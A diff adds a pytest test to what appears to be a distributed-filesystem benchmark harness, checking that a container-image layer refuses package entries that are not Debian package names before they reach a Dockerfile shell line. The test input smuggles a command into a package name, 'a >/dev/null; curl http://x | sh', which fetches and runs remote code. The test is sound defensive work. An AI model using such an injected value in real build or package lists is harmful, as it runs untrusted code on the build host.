@@ -236,3 +236,12 @@ def test_each_storage_node_runs_its_systems_layer_and_the_client_nodes_the_labs_
     assert ran == {"a1": images.systems["aa"], "a2": images.systems["aa"], "b1": images.systems["bb"],
                    "client1": images.clients, "client2": images.clients}
     assert len(set(ran.values())) == 3 and facts["systems"]["aa"]["facts"] == {"nodes": ["a1", "a2"]}
+
+
+def test_a_layer_of_packages_that_are_not_package_names_is_refused_before_it_becomes_a_shell_line():
+    from environments.node_image import Layer
+    from harness.errors import DfsbenchError
+
+    with pytest.raises(DfsbenchError, match="the system 'evil' asks for packages that are not Debian package names"):
+        Layer("evil", "dfsbench-tools:x", ("fuse3", "a >/dev/null; curl http://x | sh"), "the system 'evil'")
+    assert "fuse3 hello" in Layer("ok", "dfsbench-tools:x", ("fuse3", "hello"), "the system 'ok'").dockerfile
